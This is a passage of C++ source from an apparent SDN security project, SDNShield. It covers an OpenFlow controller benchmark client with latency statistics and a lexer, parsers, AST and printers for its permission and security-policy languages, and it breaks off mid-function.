    if (!echo->isReply) {
      sendBytes(conn, wire::encodeEcho({true, echo->xid, echo->payload}));
    }
    return;
  }
  if (const auto* statsRequest = std::get_if<of::StatsRequest>(&message)) {
    // Minimal emulation: an empty reply at the requested level.
    of::StatsReply reply;
    reply.level = statsRequest->level;
    sendBytes(conn,
              wire::encodeStatsReply(
                  reply, wire::transactionId(frame.data, frame.size)));
    return;
  }
  // Hello and anything else: ignore.
}

void Campaign::onEvent(Conn& conn, std::uint32_t events) {
  if (conn.fd < 0) return;
  if (conn.phase == Conn::Phase::kConnecting) {
    int soError = 0;
    socklen_t len = sizeof(soError);
    ::getsockopt(conn.fd, SOL_SOCKET, SO_ERROR, &soError, &len);
    if (soError != 0 || (events & (EPOLLHUP | EPOLLERR))) {
      failConn(conn);
      return;
    }
    ++connected;
    conn.phase = Conn::Phase::kHandshake;
    reactor.rearm(conn.fd, EPOLLIN);
    sendBytes(conn, wire::encodeHello(1));
    // Fall through: the server's hello/features may already be readable.
  }
  if (events & EPOLLOUT) {
    std::size_t offset = 0;
    while (offset < conn.txBuffer.size()) {
      ssize_t n = ::send(conn.fd, conn.txBuffer.data() + offset,
                         conn.txBuffer.size() - offset, MSG_NOSIGNAL);
      if (n > 0) {
        offset += static_cast<std::size_t>(n);
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
      if (n < 0 && errno == EINTR) continue;
      failConn(conn);
      return;
    }
    conn.txBuffer.erase(
        conn.txBuffer.begin(),
        conn.txBuffer.begin() + static_cast<std::ptrdiff_t>(offset));
    if (conn.txBuffer.empty() && conn.txArmed) {
      conn.txArmed = false;
      reactor.rearm(conn.fd, EPOLLIN);
    }
  }
  if (!(events & EPOLLIN)) {
    if (events & (EPOLLHUP | EPOLLERR)) failConn(conn);
    return;
  }

  std::uint8_t chunk[64 * 1024];
  while (true) {
    ssize_t n = ::read(conn.fd, chunk, sizeof(chunk));
    if (n > 0) {
      conn.framer.append(chunk, static_cast<std::size_t>(n));
      continue;
    }
    if (n == 0) {
      failConn(conn);
      return;
    }
    if (errno == EAGAIN || errno == EWOULDBLOCK) break;
    if (errno == EINTR) continue;
    failConn(conn);
    return;
  }
  Framer::Frame frame;
  while (true) {
    Framer::Status status = conn.framer.next(frame);
    if (status == Framer::Status::kNeedMore) break;
    if (status == Framer::Status::kCorrupt) {
      failConn(conn);
      return;
    }
    wire::Message message;
    try {
      message = wire::decode(frame.data, frame.size);
    } catch (const wire::DecodeError&) {
      failConn(conn);
      return;
    }
    handleMessage(conn, message, frame);
    if (conn.fd < 0) return;
  }
}

}  // namespace

double CbenchClientResult::medianUs() const {
  return percentile(latenciesUs, 0.5);
}
double CbenchClientResult::p90Us() const { return percentile(latenciesUs, 0.9); }
double CbenchClientResult::meanUs() const {
  if (latenciesUs.empty()) return 0;
  double sum = 0;
  for (double v : latenciesUs) sum += v;
  return sum / static_cast<double>(latenciesUs.size());
}

CbenchClientResult runCbenchClient(const CbenchClientConfig& config) {
  CbenchClientResult result;
  Campaign campaign;
  campaign.config = config;
  campaign.reactor.start();

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config.port);
  if (::inet_pton(AF_INET, config.host.c_str(), &addr.sin_addr) != 1) {
    result.error = "bad host: " + config.host;
    campaign.reactor.stop();
    return result;
  }

  {
    std::lock_guard lock(campaign.mutex);
    for (std::size_t i = 0; i < config.connections; ++i) {
      auto conn = std::make_unique<Conn>();
      conn->index = i;
      conn->dpid = config.firstDpid + i;
      std::uint64_t serial = i + 1;
      conn->targetMac = of::MacAddress::fromUint64(0x020000000000ULL + serial);
      conn->probeMac = of::MacAddress::fromUint64(0x040000000000ULL + serial);
      conn->targetIp =
          of::Ipv4Address(10, 0, static_cast<std::uint8_t>(serial >> 8),
                          static_cast<std::uint8_t>(serial & 0xff));
      conn->probeIp =
          of::Ipv4Address(10, 9, static_cast<std::uint8_t>(serial >> 8),
                          static_cast<std::uint8_t>(serial & 0xff));
      conn->fd =
          ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
      if (conn->fd < 0) {
        conn->phase = Conn::Phase::kFailed;
        ++campaign.settled;
        campaign.conns.push_back(std::move(conn));
        continue;
      }
      int one = 1;
      ::setsockopt(conn->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
      int rc = ::connect(conn->fd, reinterpret_cast<sockaddr*>(&addr),
                         sizeof(addr));
      if (rc < 0 && errno != EINPROGRESS) {
        ::close(conn->fd);
        conn->fd = -1;
        conn->phase = Conn::Phase::kFailed;
        ++campaign.settled;
        campaign.conns.push_back(std::move(conn));
        continue;
      }
      Conn* raw = conn.get();
      campaign.conns.push_back(std::move(conn));
      if (!campaign.reactor.add(raw->fd, EPOLLOUT | EPOLLIN,
                                [&campaign, raw](std::uint32_t events) {
                                  std::lock_guard cbLock(campaign.mutex);
                                  campaign.onEvent(*raw, events);
                                })) {
        ::close(raw->fd);
        raw->fd = -1;
        raw->phase = Conn::Phase::kFailed;
        ++campaign.settled;
      }
    }
  }

  // Supervise: wake every 20ms to sweep round timeouts; finish when every
  // connection settles or the global deadline passes.
  auto deadline = std::chrono::steady_clock::now() + config.connectTimeout +
                  config.roundTimeout * (config.rounds + 2);
  {
    std::unique_lock lock(campaign.mutex);
    while (campaign.settled < campaign.conns.size() &&
           std::chrono::steady_clock::now() < deadline) {
      campaign.cv.wait_for(lock, std::chrono::milliseconds(20));
      auto now = std::chrono::steady_clock::now();
      for (auto& conn : campaign.conns) {
        if (conn->phase != Conn::Phase::kRounds) continue;
        if (now - conn->sentAt < config.roundTimeout) continue;
        ++conn->timeouts;
        g_roundTimeouts.increment();
        ++conn->roundsDone;  // A timed-out round still consumes its slot.
        if (conn->roundsDone >= config.rounds) {
          campaign.settle(*conn, Conn::Phase::kDone);
        } else {
          campaign.startRound(*conn);
        }
      }
    }
  }

  campaign.reactor.stop();
  {
    std::lock_guard lock(campaign.mutex);
    result.flowModFrames.resize(config.captureFlowModFrames
                                    ? campaign.conns.size()
                                    : 0);
    for (auto& conn : campaign.conns) {
      if (conn->phase == Conn::Phase::kRounds ||
          conn->phase == Conn::Phase::kHandshake ||
          conn->phase == Conn::Phase::kConnecting) {
        // Deadline expired mid-flight.
        ++result.timeouts;
      }
      result.roundsCompleted += conn->latenciesUs.size();
      result.timeouts += conn->timeouts;
      result.flowModsReceived += conn->flowMods;
      result.packetOutsReceived += conn->packetOuts;
      result.latenciesUs.insert(result.latenciesUs.end(),
                                conn->latenciesUs.begin(),
                                conn->latenciesUs.end());
      if (config.captureFlowModFrames) {
        result.flowModFrames[conn->index] = std::move(conn->capturedFlowMods);
      }
      if (conn->fd >= 0) {
        ::close(conn->fd);
        conn->fd = -1;
      }
    }
    result.connected = campaign.connected;
    result.handshaked = campaign.handshaked;
  }
  result.ok = result.handshaked == config.connections;
  if (!result.ok && result.error.empty()) {
    result.error = "handshaked " + std::to_string(result.handshaked) + "/" +
                   std::to_string(config.connections) + " connections";
  }
  return result;
}

}  // namespace sdnshield::net
