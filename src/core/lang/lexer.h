// Lexer shared by the permission language (Appendix A) and the security
// policy language (Appendix B). Keywords are plain identifiers resolved by
// the parsers; `\` at end of line continues a statement (as in the paper's
// listings) and `#` or `//` start comments.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/lang/errors.h"

namespace sdnshield::lang {

enum class TokenType {
  kIdent,
  kInt,
  kIp,  ///< Dotted quad, e.g. 10.13.0.0.
  kLBrace,
  kRBrace,
  kLParen,
  kRParen,
  kComma,
  kAssign,  ///< =
  kLe,      ///< <=
  kGe,      ///< >=
  kLt,
  kGt,
  kNewline,  ///< Statement separator (explicit, so PERM lists need no ';').
  kEnd,
};

struct LexToken {
  TokenType type = TokenType::kEnd;
  std::string text;
  std::uint64_t intValue = 0;  ///< kInt.
  std::uint32_t ipValue = 0;   ///< kIp, host order.
  int line = 0;
  int column = 0;
};

/// Tokenizes the whole input. Consecutive newlines are collapsed; a trailing
/// kEnd token is always appended. Throws ParseError on bad characters.
std::vector<LexToken> lex(const std::string& input);

std::string toString(TokenType type);

}  // namespace sdnshield::lang
