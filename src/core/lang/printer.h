// Canonical pretty-printers for manifests and policies. The printed form
// re-parses to an equivalent object (round-trip property, covered by tests).
#pragma once

#include <string>

#include "core/lang/perm_parser.h"
#include "core/lang/policy_ast.h"

namespace sdnshield::lang {

/// Prints a manifest in permission-language syntax.
std::string formatManifest(const PermissionManifest& manifest);

/// Prints a permission set (one PERM statement per line).
std::string formatPermissions(const perm::PermissionSet& permissions);

/// Prints a policy program in security-policy-language syntax.
std::string formatPolicy(const PolicyProgram& program);

}  // namespace sdnshield::lang
