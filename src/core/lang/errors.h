// Exceptions for the SDNShield language front end. Parse/config problems are
// reported with source positions; the runtime checking path never throws.
#pragma once

#include <stdexcept>
#include <string>

namespace sdnshield::lang {

class ParseError : public std::runtime_error {
 public:
  ParseError(const std::string& message, int line, int column)
      : std::runtime_error("parse error at " + std::to_string(line) + ":" +
                           std::to_string(column) + ": " + message),
        line_(line),
        column_(column) {}

  int line() const { return line_; }
  int column() const { return column_; }

 private:
  int line_;
  int column_;
};

}  // namespace sdnshield::lang
