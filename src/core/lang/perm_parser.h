// Parser for the SDNShield permission language (paper Appendix A).
//
//   perm_manifest := perm_stmt*
//   perm_stmt     := PERM token [LIMITING filter_expr]
//   filter_expr   := filter_expr AND/OR filter | NOT filter_expr
//                  | ( filter_expr ) | filter
//
// Filters cover the full Appendix A set (pred/action/owner/priority/
// table-size/pkt-out/topology/callback/statistics); any unrecognised
// identifier in filter position is a customization stub (§V) resolved by the
// reconciliation preprocessor.
#pragma once

#include <string>

#include "core/lang/lexer.h"
#include "core/perm/permission.h"

namespace sdnshield::lang {

/// A manifest: the permission set an app release requests.
struct PermissionManifest {
  std::string appName;  ///< Optional `APP <name>` header; empty if absent.
  perm::PermissionSet permissions;
};

/// Parses a full permission manifest. Throws ParseError.
PermissionManifest parseManifest(const std::string& text);

/// Parses just the permission set (no APP header allowed).
perm::PermissionSet parsePermissions(const std::string& text);

/// Parses a standalone filter expression (used by LET bindings and tests).
perm::FilterExprPtr parseFilterExpr(const std::string& text);

namespace detail {

/// Cursor over a token stream, shared with the policy parser.
class TokenCursor {
 public:
  explicit TokenCursor(std::vector<LexToken> tokens)
      : tokens_(std::move(tokens)) {}

  const LexToken& peek(std::size_t lookahead = 0) const;
  const LexToken& next();
  bool atEnd() const { return peek().type == TokenType::kEnd; }

  /// True (and consumes) when the current token is an identifier equal to
  /// @p keyword (case-sensitive, as in the paper's listings).
  bool acceptKeyword(const std::string& keyword);
  bool checkKeyword(const std::string& keyword) const;
  void expectKeyword(const std::string& keyword);
  bool accept(TokenType type);
  LexToken expect(TokenType type, const std::string& what);
  void skipNewlines();
  [[noreturn]] void fail(const std::string& message) const;

  /// Position save/restore for backtracking parsers (policy assertions).
  std::size_t save() const { return pos_; }
  void restore(std::size_t pos) { pos_ = pos; }

 private:
  std::vector<LexToken> tokens_;
  std::size_t pos_ = 0;
};

/// Parses one filter expression starting at the cursor (exposed for the
/// policy parser, which embeds filter expressions in LET bindings).
perm::FilterExprPtr parseFilterExpr(TokenCursor& cursor);

/// Parses `PERM token [LIMITING filter_expr]` at the cursor.
perm::Permission parsePermStmt(TokenCursor& cursor);

}  // namespace detail

}  // namespace sdnshield::lang
