// Parser for the SDNShield security policy language (paper Appendix B).
//
//   expr       := binding | constraint
//   binding    := LET var = { perm_expr } | LET var = APP name
//               | LET var = perm_expr | LET var = { filter_expr }
//   constraint := ASSERT EITHER perm_expr OR perm_expr
//               | ASSERT assert_expr
//
// A braced LET body starting with PERM is a permission-set literal; any
// other braced body is a filter expression (the form stub macros take in the
// paper's Scenario 1: `LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}`).
#pragma once

#include <string>

#include "core/lang/policy_ast.h"

namespace sdnshield::lang {

/// Parses a full policy program. Throws ParseError.
PolicyProgram parsePolicy(const std::string& text);

}  // namespace sdnshield::lang
