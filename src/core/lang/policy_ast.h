// AST for the SDNShield security policy language (paper Appendix B):
// LET bindings (stub macros, named permission sets, app references),
// mutual-exclusion constraints and permission-boundary assertions over the
// MEET/JOIN permission-set algebra.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "core/perm/permission.h"

namespace sdnshield::lang {

struct PermSetExpr;
using PermSetExprPtr = std::shared_ptr<const PermSetExpr>;

/// Permission-set expression: `perm_expr := perm_expr MEET|JOIN perm_expr
/// | ( perm_expr ) | var | APP name | { perm* }`.
struct PermSetExpr {
  enum class Kind { kLiteral, kVar, kApp, kMeet, kJoin };

  Kind kind = Kind::kLiteral;
  perm::PermissionSet literal;  // kLiteral.
  std::string name;             // kVar / kApp.
  PermSetExprPtr lhs;           // kMeet / kJoin.
  PermSetExprPtr rhs;

  static PermSetExprPtr makeLiteral(perm::PermissionSet set);
  static PermSetExprPtr makeVar(std::string name);
  static PermSetExprPtr makeApp(std::string name);
  static PermSetExprPtr makeMeet(PermSetExprPtr lhs, PermSetExprPtr rhs);
  static PermSetExprPtr makeJoin(PermSetExprPtr lhs, PermSetExprPtr rhs);

  std::string toString() const;
};

enum class CmpOp { kLe, kGe, kLt, kGt, kEq };

std::string toString(CmpOp op);

struct BoolExpr;
using BoolExprPtr = std::shared_ptr<const BoolExpr>;

/// Boolean assertion expression over permission-set comparisons.
struct BoolExpr {
  enum class Kind { kCompare, kAnd, kOr, kNot };

  Kind kind = Kind::kCompare;
  CmpOp op = CmpOp::kLe;  // kCompare.
  PermSetExprPtr lhs;     // kCompare.
  PermSetExprPtr rhs;
  BoolExprPtr a;  // kAnd / kOr / kNot.
  BoolExprPtr b;

  static BoolExprPtr compare(PermSetExprPtr lhs, CmpOp op, PermSetExprPtr rhs);
  static BoolExprPtr conj(BoolExprPtr a, BoolExprPtr b);
  static BoolExprPtr disj(BoolExprPtr a, BoolExprPtr b);
  static BoolExprPtr negate(BoolExprPtr a);

  std::string toString() const;
};

/// One ASSERT statement.
struct Constraint {
  enum class Kind { kMutualExclusion, kAssertion };

  Kind kind = Kind::kAssertion;
  // kMutualExclusion: `ASSERT EITHER { A } OR { B }`.
  PermSetExprPtr exclusiveA;
  PermSetExprPtr exclusiveB;
  // kAssertion.
  BoolExprPtr assertion;

  int line = 0;  ///< Source line, for violation reports.
  std::string toString() const;
};

/// A parsed security policy program.
struct PolicyProgram {
  /// `LET name = <filter_expr>` — stub-macro definitions applied to
  /// manifests by the reconciliation preprocessor.
  std::map<std::string, perm::FilterExprPtr> filterBindings;

  /// `LET name = <perm_set_expr>` — named permission sets (templates).
  std::map<std::string, PermSetExprPtr> setBindings;

  std::vector<Constraint> constraints;
};

}  // namespace sdnshield::lang
