#include "core/lang/printer.h"

#include <sstream>

namespace sdnshield::lang {

std::string formatPermissions(const perm::PermissionSet& permissions) {
  return permissions.toString();
}

std::string formatManifest(const PermissionManifest& manifest) {
  std::ostringstream out;
  if (!manifest.appName.empty()) out << "APP " << manifest.appName << "\n";
  out << formatPermissions(manifest.permissions);
  return out.str();
}

std::string formatPolicy(const PolicyProgram& program) {
  std::ostringstream out;
  for (const auto& [name, filter] : program.filterBindings) {
    out << "LET " << name << " = { " << filter->toString() << " }\n";
  }
  for (const auto& [name, expr] : program.setBindings) {
    out << "LET " << name << " = " << expr->toString() << "\n";
  }
  for (const Constraint& constraint : program.constraints) {
    out << constraint.toString() << "\n";
  }
  return out.str();
}

}  // namespace sdnshield::lang
