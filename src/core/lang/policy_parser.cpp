#include "core/lang/policy_parser.h"

#include <optional>
#include <utility>

#include "core/lang/perm_parser.h"

namespace sdnshield::lang {

// --- AST factories and printers ----------------------------------------------

PermSetExprPtr PermSetExpr::makeLiteral(perm::PermissionSet set) {
  auto node = std::make_shared<PermSetExpr>();
  node->kind = Kind::kLiteral;
  node->literal = std::move(set);
  return node;
}

PermSetExprPtr PermSetExpr::makeVar(std::string name) {
  auto node = std::make_shared<PermSetExpr>();
  node->kind = Kind::kVar;
  node->name = std::move(name);
  return node;
}

PermSetExprPtr PermSetExpr::makeApp(std::string name) {
  auto node = std::make_shared<PermSetExpr>();
  node->kind = Kind::kApp;
  node->name = std::move(name);
  return node;
}

PermSetExprPtr PermSetExpr::makeMeet(PermSetExprPtr lhs, PermSetExprPtr rhs) {
  auto node = std::make_shared<PermSetExpr>();
  node->kind = Kind::kMeet;
  node->lhs = std::move(lhs);
  node->rhs = std::move(rhs);
  return node;
}

PermSetExprPtr PermSetExpr::makeJoin(PermSetExprPtr lhs, PermSetExprPtr rhs) {
  auto node = std::make_shared<PermSetExpr>();
  node->kind = Kind::kJoin;
  node->lhs = std::move(lhs);
  node->rhs = std::move(rhs);
  return node;
}

std::string PermSetExpr::toString() const {
  switch (kind) {
    case Kind::kLiteral: {
      // Single-line form, so constraint texts stay readable in reports.
      std::string out = "{";
      for (const perm::Permission& grant : literal.permissions()) {
        out += " " + grant.toString() + ";";
      }
      if (out.back() == ';') out.pop_back();
      return out + " }";
    }
    case Kind::kVar:
      return name;
    case Kind::kApp:
      return "APP " + name;
    case Kind::kMeet:
      return "(" + lhs->toString() + " MEET " + rhs->toString() + ")";
    case Kind::kJoin:
      return "(" + lhs->toString() + " JOIN " + rhs->toString() + ")";
  }
  return "?";
}

std::string toString(CmpOp op) {
  switch (op) {
    case CmpOp::kLe:
      return "<=";
    case CmpOp::kGe:
      return ">=";
    case CmpOp::kLt:
      return "<";
    case CmpOp::kGt:
      return ">";
    case CmpOp::kEq:
      return "=";
  }
  return "?";
}

BoolExprPtr BoolExpr::compare(PermSetExprPtr lhs, CmpOp op,
                              PermSetExprPtr rhs) {
  auto node = std::make_shared<BoolExpr>();
  node->kind = Kind::kCompare;
  node->op = op;
  node->lhs = std::move(lhs);
  node->rhs = std::move(rhs);
  return node;
}

BoolExprPtr BoolExpr::conj(BoolExprPtr a, BoolExprPtr b) {
  auto node = std::make_shared<BoolExpr>();
  node->kind = Kind::kAnd;
  node->a = std::move(a);
  node->b = std::move(b);
  return node;
}

BoolExprPtr BoolExpr::disj(BoolExprPtr a, BoolExprPtr b) {
  auto node = std::make_shared<BoolExpr>();
  node->kind = Kind::kOr;
  node->a = std::move(a);
  node->b = std::move(b);
  return node;
}

BoolExprPtr BoolExpr::negate(BoolExprPtr a) {
  auto node = std::make_shared<BoolExpr>();
  node->kind = Kind::kNot;
  node->a = std::move(a);
  return node;
}

std::string BoolExpr::toString() const {
  switch (kind) {
    case Kind::kCompare:
      return lhs->toString() + " " + lang::toString(op) + " " +
             rhs->toString();
    case Kind::kAnd:
      return "(" + a->toString() + " AND " + b->toString() + ")";
    case Kind::kOr:
      return "(" + a->toString() + " OR " + b->toString() + ")";
    case Kind::kNot:
      return "NOT (" + a->toString() + ")";
  }
  return "?";
}

std::string Constraint::toString() const {
  if (kind == Kind::kMutualExclusion) {
    return "ASSERT EITHER " + exclusiveA->toString() + " OR " +
           exclusiveB->toString();
  }
  return "ASSERT " + assertion->toString();
}

// --- parser --------------------------------------------------------------------

namespace {

using detail::TokenCursor;

bool isStatementKeyword(const TokenCursor& cursor) {
  return cursor.checkKeyword("LET") || cursor.checkKeyword("ASSERT");
}

/// Parses `{ PERM ... (newline PERM ...)* }` with the opening brace already
/// consumed.
perm::PermissionSet parsePermSetLiteralBody(TokenCursor& cursor) {
  perm::PermissionSet set;
  cursor.skipNewlines();
  if (cursor.accept(TokenType::kRBrace)) return set;  // `{ }`: empty set.
  while (cursor.checkKeyword("PERM")) {
    perm::Permission permStmt = detail::parsePermStmt(cursor);
    set.grant(permStmt.token, permStmt.filter);
    cursor.skipNewlines();
  }
  cursor.expect(TokenType::kRBrace, "'}'");
  return set;
}

PermSetExprPtr parsePermSetExpr(TokenCursor& cursor);

PermSetExprPtr parsePermSetPrimary(TokenCursor& cursor) {
  if (cursor.accept(TokenType::kLBrace)) {
    return PermSetExpr::makeLiteral(parsePermSetLiteralBody(cursor));
  }
  if (cursor.acceptKeyword("APP")) {
    return PermSetExpr::makeApp(
        cursor.expect(TokenType::kIdent, "application name").text);
  }
  if (cursor.accept(TokenType::kLParen)) {
    PermSetExprPtr inner = parsePermSetExpr(cursor);
    cursor.expect(TokenType::kRParen, "')'");
    return inner;
  }
  return PermSetExpr::makeVar(
      cursor.expect(TokenType::kIdent, "permission-set variable").text);
}

PermSetExprPtr parsePermSetExpr(TokenCursor& cursor) {
  PermSetExprPtr lhs = parsePermSetPrimary(cursor);
  while (true) {
    if (cursor.acceptKeyword("MEET")) {
      lhs = PermSetExpr::makeMeet(std::move(lhs), parsePermSetPrimary(cursor));
    } else if (cursor.acceptKeyword("JOIN")) {
      lhs = PermSetExpr::makeJoin(std::move(lhs), parsePermSetPrimary(cursor));
    } else {
      return lhs;
    }
  }
}

std::optional<CmpOp> acceptCmpOp(TokenCursor& cursor) {
  switch (cursor.peek().type) {
    case TokenType::kLe:
      cursor.next();
      return CmpOp::kLe;
    case TokenType::kGe:
      cursor.next();
      return CmpOp::kGe;
    case TokenType::kLt:
      cursor.next();
      return CmpOp::kLt;
    case TokenType::kGt:
      cursor.next();
      return CmpOp::kGt;
    case TokenType::kAssign:
      cursor.next();
      return CmpOp::kEq;
    default:
      return std::nullopt;
  }
}

BoolExprPtr parseBoolOr(TokenCursor& cursor);

BoolExprPtr parseBoolUnary(TokenCursor& cursor) {
  if (cursor.acceptKeyword("NOT")) {
    return BoolExpr::negate(parseBoolUnary(cursor));
  }
  if (cursor.peek().type == TokenType::kLParen) {
    // Ambiguous: `( assert_expr )` or a parenthesised perm-set expression
    // starting a comparison. Try the boolean reading first and backtrack.
    std::size_t mark = cursor.save();
    cursor.next();  // '('.
    try {
      BoolExprPtr inner = parseBoolOr(cursor);
      cursor.expect(TokenType::kRParen, "')'");
      return inner;
    } catch (const ParseError&) {
      cursor.restore(mark);
    }
  }
  PermSetExprPtr lhs = parsePermSetExpr(cursor);
  auto op = acceptCmpOp(cursor);
  if (!op) cursor.fail("expected a comparison operator");
  PermSetExprPtr rhs = parsePermSetExpr(cursor);
  return BoolExpr::compare(std::move(lhs), *op, std::move(rhs));
}

BoolExprPtr parseBoolAnd(TokenCursor& cursor) {
  BoolExprPtr lhs = parseBoolUnary(cursor);
  while (cursor.checkKeyword("AND")) {
    cursor.next();
    lhs = BoolExpr::conj(std::move(lhs), parseBoolUnary(cursor));
  }
  return lhs;
}

BoolExprPtr parseBoolOr(TokenCursor& cursor) {
  BoolExprPtr lhs = parseBoolAnd(cursor);
  while (cursor.checkKeyword("OR")) {
    cursor.next();
    lhs = BoolExpr::disj(std::move(lhs), parseBoolAnd(cursor));
  }
  return lhs;
}

void parseLet(TokenCursor& cursor, PolicyProgram& program) {
  cursor.expectKeyword("LET");
  std::string name = cursor.expect(TokenType::kIdent, "binding name").text;
  cursor.expect(TokenType::kAssign, "'='");
  if (cursor.accept(TokenType::kLBrace)) {
    cursor.skipNewlines();
    if (cursor.accept(TokenType::kRBrace)) {
      program.setBindings[name] =
          PermSetExpr::makeLiteral(perm::PermissionSet{});
      return;
    }
    if (cursor.checkKeyword("PERM")) {
      program.setBindings[name] =
          PermSetExpr::makeLiteral(parsePermSetLiteralBody(cursor));
      return;
    }
    // Filter-expression binding (stub macro definition).
    perm::FilterExprPtr filter = detail::parseFilterExpr(cursor);
    cursor.skipNewlines();
    cursor.expect(TokenType::kRBrace, "'}'");
    program.filterBindings[name] = std::move(filter);
    return;
  }
  if (cursor.checkKeyword("APP")) {
    cursor.next();
    program.setBindings[name] = PermSetExpr::makeApp(
        cursor.expect(TokenType::kIdent, "application name").text);
    return;
  }
  program.setBindings[name] = parsePermSetExpr(cursor);
}

void parseAssert(TokenCursor& cursor, PolicyProgram& program) {
  int line = cursor.peek().line;
  cursor.expectKeyword("ASSERT");
  Constraint constraint;
  constraint.line = line;
  if (cursor.acceptKeyword("EITHER")) {
    constraint.kind = Constraint::Kind::kMutualExclusion;
    constraint.exclusiveA = parsePermSetExpr(cursor);
    cursor.expectKeyword("OR");
    constraint.exclusiveB = parsePermSetExpr(cursor);
  } else {
    constraint.kind = Constraint::Kind::kAssertion;
    constraint.assertion = parseBoolOr(cursor);
  }
  program.constraints.push_back(std::move(constraint));
}

}  // namespace

PolicyProgram parsePolicy(const std::string& text) {
  TokenCursor cursor{lex(text)};
  PolicyProgram program;
  cursor.skipNewlines();
  while (!cursor.atEnd()) {
    if (cursor.checkKeyword("LET")) {
      parseLet(cursor, program);
    } else if (cursor.checkKeyword("ASSERT")) {
      parseAssert(cursor, program);
    } else {
      cursor.fail("expected LET or ASSERT, found '" + cursor.peek().text +
                  "'");
    }
    if (!cursor.atEnd()) {
      if (!cursor.accept(TokenType::kNewline) && !isStatementKeyword(cursor)) {
        cursor.fail("expected end of statement");
      }
      cursor.skipNewlines();
    }
  }
  return program;
}

}  // namespace sdnshield::lang
