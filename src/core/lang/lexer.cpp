#include "core/lang/lexer.h"

#include <cctype>

#include "of/types.h"

namespace sdnshield::lang {

namespace {

bool isIdentStart(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_';
}
bool isIdentChar(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) || c == '_';
}
bool isDigit(char c) { return std::isdigit(static_cast<unsigned char>(c)); }

}  // namespace

std::string toString(TokenType type) {
  switch (type) {
    case TokenType::kIdent:
      return "identifier";
    case TokenType::kInt:
      return "integer";
    case TokenType::kIp:
      return "ip-address";
    case TokenType::kLBrace:
      return "'{'";
    case TokenType::kRBrace:
      return "'}'";
    case TokenType::kLParen:
      return "'('";
    case TokenType::kRParen:
      return "')'";
    case TokenType::kComma:
      return "','";
    case TokenType::kAssign:
      return "'='";
    case TokenType::kLe:
      return "'<='";
    case TokenType::kGe:
      return "'>='";
    case TokenType::kLt:
      return "'<'";
    case TokenType::kGt:
      return "'>'";
    case TokenType::kNewline:
      return "end-of-line";
    case TokenType::kEnd:
      return "end-of-input";
  }
  return "?";
}

std::vector<LexToken> lex(const std::string& input) {
  std::vector<LexToken> out;
  int line = 1;
  int column = 1;
  std::size_t i = 0;
  auto push = [&](TokenType type, std::string text) {
    out.push_back(LexToken{type, std::move(text), 0, 0, line, column});
  };
  auto pushNewline = [&] {
    // Collapse consecutive separators and avoid a leading one.
    if (!out.empty() && out.back().type != TokenType::kNewline) {
      push(TokenType::kNewline, "\n");
    }
  };

  while (i < input.size()) {
    char c = input[i];
    if (c == '\\') {
      // Line continuation: swallow up to and including the newline.
      std::size_t j = i + 1;
      while (j < input.size() && (input[j] == ' ' || input[j] == '\t' ||
                                  input[j] == '\r')) {
        ++j;
      }
      if (j < input.size() && input[j] == '\n') {
        i = j + 1;
        ++line;
        column = 1;
        continue;
      }
      throw ParseError("stray '\\'", line, column);
    }
    if (c == '\n') {
      pushNewline();
      ++i;
      ++line;
      column = 1;
      continue;
    }
    if (c == ' ' || c == '\t' || c == '\r') {
      ++i;
      ++column;
      continue;
    }
    if (c == '#' || (c == '/' && i + 1 < input.size() && input[i + 1] == '/')) {
      while (i < input.size() && input[i] != '\n') ++i;
      continue;
    }
    if (isIdentStart(c)) {
      int startColumn = column;
      std::size_t start = i;
      while (i < input.size() && isIdentChar(input[i])) {
        ++i;
        ++column;
      }
      LexToken token{TokenType::kIdent, input.substr(start, i - start), 0, 0,
                     line, startColumn};
      out.push_back(std::move(token));
      continue;
    }
    if (isDigit(c)) {
      int startColumn = column;
      std::size_t start = i;
      while (i < input.size() && (isDigit(input[i]) || input[i] == '.')) {
        ++i;
        ++column;
      }
      std::string text = input.substr(start, i - start);
      LexToken token;
      token.text = text;
      token.line = line;
      token.column = startColumn;
      if (text.find('.') != std::string::npos) {
        token.type = TokenType::kIp;
        try {
          token.ipValue = of::Ipv4Address::parse(text).value();
        } catch (const std::invalid_argument&) {
          throw ParseError("bad IP literal '" + text + "'", line, startColumn);
        }
      } else {
        token.type = TokenType::kInt;
        token.intValue = std::stoull(text);
      }
      out.push_back(std::move(token));
      continue;
    }
    int startColumn = column;
    auto single = [&](TokenType type) {
      push(type, std::string(1, c));
      out.back().column = startColumn;
      ++i;
      ++column;
    };
    switch (c) {
      case '{':
        single(TokenType::kLBrace);
        continue;
      case '}':
        single(TokenType::kRBrace);
        continue;
      case '(':
        single(TokenType::kLParen);
        continue;
      case ')':
        single(TokenType::kRParen);
        continue;
      case ',':
        single(TokenType::kComma);
        continue;
      case '=':
        single(TokenType::kAssign);
        continue;
      case '<':
        if (i + 1 < input.size() && input[i + 1] == '=') {
          push(TokenType::kLe, "<=");
          i += 2;
          column += 2;
        } else {
          single(TokenType::kLt);
        }
        continue;
      case '>':
        if (i + 1 < input.size() && input[i + 1] == '=') {
          push(TokenType::kGe, ">=");
          i += 2;
          column += 2;
        } else {
          single(TokenType::kGt);
        }
        continue;
      default:
        throw ParseError(std::string("unexpected character '") + c + "'", line,
                         column);
    }
  }
  if (!out.empty() && out.back().type == TokenType::kNewline) out.pop_back();
  out.push_back(LexToken{TokenType::kEnd, "", 0, 0, line, column});
  return out;
}

}  // namespace sdnshield::lang
