#include "core/lang/perm_parser.h"

#include <optional>
#include <utility>

namespace sdnshield::lang {

namespace detail {

const LexToken& TokenCursor::peek(std::size_t lookahead) const {
  std::size_t index = pos_ + lookahead;
  if (index >= tokens_.size()) index = tokens_.size() - 1;  // kEnd.
  return tokens_[index];
}

const LexToken& TokenCursor::next() {
  const LexToken& token = tokens_[pos_];
  if (pos_ + 1 < tokens_.size()) ++pos_;
  return token;
}

bool TokenCursor::checkKeyword(const std::string& keyword) const {
  const LexToken& token = peek();
  return token.type == TokenType::kIdent && token.text == keyword;
}

bool TokenCursor::acceptKeyword(const std::string& keyword) {
  if (!checkKeyword(keyword)) return false;
